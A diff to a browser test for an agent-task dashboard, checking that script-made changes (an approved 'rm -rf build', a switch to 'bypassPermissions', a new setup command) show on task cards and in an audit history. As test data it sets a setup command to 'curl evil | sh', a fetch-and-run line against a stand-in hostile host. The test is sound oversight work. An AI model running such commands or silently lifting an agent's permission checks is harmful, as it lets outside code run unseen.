@@ -457,7 +457,8 @@ function isInSight(element: Element): boolean {
 
 test("what a script answers or changes is told on the card, and kept in the task's history", async () => {
   await using scene = await AgentScene.open(browser);
-  const { tab, server } = scene;
+  const { tab, visitor, server } = scene;
+  visitor.expectConsole(/status of 409/); // there is no worktree
   const task = await scene.add("job", doing("working"));
   await scene.add("other", doing("working"));
   const shown = ask({ summary: "rm -rf build", detail: "rm -rf build\n\n# Clean" });
@@ -467,17 +468,48 @@ test("what a script answers or changes is told on the card, and kept in the task
   await tab.page.reload();
   const line = tab.card("job").locator("[data-answered]");
   await line.getByText("rm -rf build").waitFor();
-  expect(await line.textContent()).toMatch(/^Allowed:.*by a script with the token/);
+  expect(await line.textContent()).toMatch(/^Allowed · a script with the token · /);
   expect(await tab.card("other").locator("[data-answered]").count()).toBe(0);
 
   await server.patch(`/api/tasks/${taskId}`, { agentOptions: { permissionMode: "bypassPermissions" } });
-  await tab.toast("Agent options changed by a script with the token").waitFor();
-  await tab.toast(/bypassPermissions/).waitFor();
-  await tab.button("Show").click();
+  await line.getByText(/bypassPermissions/).waitFor();
+  expect(await line.textContent()).toMatch(
+    /^Agent options changed · a script with the token · .* · and 1 more/,
+  );
+  // Also while it asks, and after it has ended.
+  await scene.tell(task, doing("permission", { asks: ask() }));
+  await tab.expectState("job", "Needs permission");
+  await line.waitFor();
+  await scene.tell(task, { sessionStatus: "failed", asks: null, activity: null, sessionError: "Gone." });
+  await tab.expectState("job", "Failed");
+  await line.click();
   const list = tab.panel().getByRole("region", { name: "Answers and changes" });
   await list.getByText("# Clean").waitFor();
   expect(await list.getByRole("listitem").allTextContents()).toEqual([
     expect.stringMatching(/^Agent options changed.*none → .*bypassPermissions/),
     expect.stringMatching(/^Allowed.*rm -rf build/),
   ]);
+  await line.waitFor({ state: "detached" });
+  await tab.page.reload();
+  await list.getByText("# Clean").waitFor();
+  expect(await line.count()).toBe(0);
+
+  await server.patch(`/api/projects/${projectId}`, { setupCommand: "curl evil | sh" });
+  const board = tab.page.getByRole("status", { name: "What others did" });
+  await board.getByText("none → curl evil | sh").waitFor();
+  await board.getByRole("button", { name: "Show in History" }).click();
+  const all = tab.page.getByRole("region", { name: "Answers, changes and sign-ins" });
+  await all.getByText("Setup command changed").waitFor();
+  for (let index = 0; index < 60; index += 1)
+    writeAudit(server, {
+      who,
+      taskId,
+      projectId,
+      action: "agent",
+      detail: { before: "claude", after: "codex" },
+    });
+  await tab.page.reload();
+  await all.getByRole("button", { name: "Show earlier ones" }).click();
+  await all.getByText("Setup command changed").waitFor();
+  expect(await all.getByRole("button", { name: "Show earlier ones" }).count()).toBe(0);
 });
